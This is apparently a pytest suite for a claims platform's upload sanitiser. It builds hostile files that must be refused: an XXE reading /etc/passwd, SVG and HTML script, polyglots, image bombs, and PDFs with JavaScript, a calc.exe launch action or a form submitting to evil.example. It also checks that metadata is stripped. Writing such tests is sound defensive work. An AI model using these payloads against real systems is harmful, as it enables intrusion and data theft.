"""Hostile uploads: what is refused, why, and what is left of what is taken."""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from PIL import Image, PngImagePlugin

from aidplatform.lib import apart
from claims.filing import papers
from claims.filing.models import LARGEST_PAPER


def _jpeg(size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 90, 200)).save(out, "JPEG", **options)
    return out.getvalue()


def _png(size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **options)
    return out.getvalue()


def _pdf(
    pages: int = 1, change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, **options: object
) -> bytes:
    pdf = pikepdf.new()
    for _number in range(pages):
        pdf.add_blank_page()
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" * 50)
    return out.getvalue()


def _huge_png(width: int, height: int) -> bytes:
    """Return a few bytes that claim to be a very large picture."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _text_bomb() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("bomb", "A" * 40_000_000, zip=True)
    return _png(pnginfo=info)


def _animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), (shade, 0, 0)) for shade in (0, 99, 200)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _named_javascript(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["run", action]))


def _launch(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(link)])


def _submit(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")
    )


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ" * 100


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def _encrypted() -> bytes:
    return _pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def _encrypted_for_owner() -> bytes:
    return _pdf(encryption=pikepdf.Encryption(owner="o", user=""))


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>'
HTML = b"<!doctype html><script>alert(1)</script>"

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "one_byte": (lambda: b"x", "unknown_type"),
    "too_many_bytes": (lambda: _jpeg() + b"\0" * LARGEST_PAPER, "too_large"),
    "svg": (lambda: SVG, "unknown_type"),
    "xxe": (lambda: XXE, "unknown_type"),
    "html": (lambda: HTML, "unknown_type"),
    "html_named_pdf_later": (lambda: HTML + b"%PDF-1.7", "unknown_type"),
    "zip": (_zip, "unknown_type"),
    "gif": (lambda: b"GIF89a" + b"\0" * 50, "unknown_type"),
    "gifar": (lambda: b"GIF89a" + b"\0" * 50 + _zip(), "unknown_type"),
    "webp": (lambda: b"RIFF\0\0\0\0WEBPVP8 ", "unknown_type"),
    "heic": (lambda: b"\0\0\0\x18ftypheic", "unknown_type"),
    "elf": (lambda: b"\x7fELF" + b"\0" * 60, "unknown_type"),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(%stdin) (r) file", "unknown_type"),
    "path_as_bytes": (lambda: b"../../etc/passwd", "unknown_type"),
    "jpeg_header_only": (lambda: b"\xff\xd8\xff\xe0", "unreadable"),
    "jpeg_cut": (lambda: _jpeg((500, 500))[:700], "unreadable"),
    "jpeg_and_script": (lambda: b"\xff\xd8\xff/*" + HTML, "unreadable"),
    "png_cut": (lambda: _png()[:50], "unreadable"),
    "png_header_of_html": (lambda: b"\x89PNG\r\n\x1a\n" + HTML, "unreadable"),
    "png_50000_by_50000": (lambda: _huge_png(50_000, 50_000), "*"),
    "png_long_and_thin": (lambda: _huge_png(30_000, 10), "too_many_pixels"),
    "png_of_zero_width": (lambda: _huge_png(0, 9), "unreadable"),
    "png_text_bomb": (_text_bomb, "unreadable"),
    "png_animated": (_animated, "animated"),
    "jpeg_beginning_of_a_pdf": (lambda: b"\xff\xd8\xff" + _pdf(), "unreadable"),
    "pdf_header_only": (lambda: b"%PDF-1.7\n", "unreadable"),
    "pdf_of_html": (lambda: b"%PDF-1.4\n" + HTML, "unreadable"),
    "pdf_cut": (lambda: _pdf()[:120], "*"),
    "pdf_with_script": (lambda: _pdf(change=_javascript), "active_content"),
    "pdf_with_named_script": (lambda: _pdf(change=_named_javascript), "active_content"),
    "pdf_with_hidden_script": (
        lambda: _pdf(change=_named_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active_content",
    ),
    "pdf_with_launch": (lambda: _pdf(change=_launch), "active_content"),
    "pdf_that_submits": (lambda: _pdf(change=_submit), "active_content"),
    "pdf_with_xfa": (lambda: _pdf(change=_xfa), "active_content"),
    "pdf_with_attachment": (lambda: _pdf(change=_attached), "attachments"),
    "pdf_with_password": (_encrypted, "encrypted"),
    "pdf_with_owner_password": (_encrypted_for_owner, "encrypted"),
    "pdf_without_pages": (lambda: _pdf(0), "too_many_pages"),
    "pdf_with_101_pages": (lambda: _pdf(101), "too_many_pages"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_paper_is_refused(name: str) -> None:
    make, reason = REFUSED[name]
    began = time.monotonic()
    with pytest.raises(papers.PaperRefusedError) as caught:
        papers.clean(make())
    assert caught.value.extra["reason"] == reason or reason == "*", caught.value.extra
    assert str(caught.value)
    assert time.monotonic() - began < 30


def test_jpeg_loses_position_profile_and_comment() -> None:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (30.0, 15.0, 0.0)}
    exif[0x010E] = "Li Na, ward 7"
    kept = papers.clean(_jpeg(exif=exif.tobytes(), comment=b"Li Na", icc_profile=b"x" * 200))
    assert kept.media_type == "image/jpeg"
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (60, 40)
        assert not image.getexif()
        assert "icc_profile" not in image.info
        assert "comment" not in image.info
    assert b"Li Na" not in kept.data


def test_photograph_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(io.BytesIO(papers.clean(_jpeg(exif=exif.tobytes())).data)) as image:
        assert image.size == (40, 60)


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGB", "RGBA", "I;16"])
def test_png_of_every_mode_is_taken_as_pixels(mode: str) -> None:
    kept = papers.clean(_png(mode=mode))
    assert kept.media_type == "image/png"
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (60, 40)
        assert image.mode in {"L", "RGB"}


@pytest.mark.parametrize("make", [_jpeg, _png, _pdf])
def test_what_is_appended_is_lost(make: Callable[[], bytes]) -> None:
    kept = papers.clean(make() + _zip() + HTML)
    assert b"Evil.class" not in kept.data
    assert b"<script>" not in kept.data


def test_pdf_keeps_its_pages_and_loses_links_and_metadata() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/track"),
        )
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(link)])
        pdf.docinfo["/Author"] = "Li Na"

    kept = papers.clean(_pdf(3, change))
    with pikepdf.open(io.BytesIO(kept.data)) as pdf:
        assert len(pdf.pages) == 3
        assert "/Author" not in pdf.docinfo
    assert b"evil.example" not in kept.data


def test_same_paper_is_rewritten_to_the_same_bytes() -> None:
    for data in (_jpeg(), _png(), _pdf(2)):
        assert papers.clean(data) == papers.clean(data)


def test_cleaner_sees_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing of our environment reaches the process that decodes what strangers send."""
    seen: dict[str, object] = {}
    real = apart.subprocess.run

    def watch(command: list[str], **options: object) -> object:
        seen.update(options, command=command)
        return real(command, **options)  # type: ignore[call-overload]

    monkeypatch.setattr(apart.subprocess, "run", watch)
    papers.clean(_jpeg())
    assert seen["env"] == {}
    assert "-I" in seen["command"]  # type: ignore[operator]
